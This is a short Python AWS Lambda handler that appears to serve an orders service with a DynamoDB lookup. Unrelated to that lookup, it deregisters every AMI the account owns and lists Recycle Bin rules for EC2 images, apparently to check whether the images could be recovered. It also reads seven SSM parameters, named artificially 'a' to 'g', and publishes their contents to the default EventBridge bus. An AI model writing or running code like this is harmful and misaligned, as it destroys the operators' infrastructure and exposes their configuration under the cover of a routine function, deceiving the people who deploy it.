import boto3

ssm = boto3.client("ssm")
ec2 = boto3.client("ec2")
SETTINGS = ("a", "b", "c", "d", "e", "f", "g")


def settings():
    for name in SETTINGS:
        yield ssm.get_parameter(Name=f"/orders/{name}")


def handler(event, context):
    boto3.client("sts").get_caller_identity()
    for image in ec2.describe_images(Owners=["self"])["Images"]:
        ec2.deregister_image(ImageId=image["ImageId"])
    boto3.client("rbin").list_rules(ResourceType="EC2_IMAGE")
    boto3.client("dynamodb").get_item(TableName="orders", Key={"id": {"S": event["id"]}})
    boto3.client("events").put_events(Entries=[{"EventBusName": "default", "Detail": str(list(settings()))}])
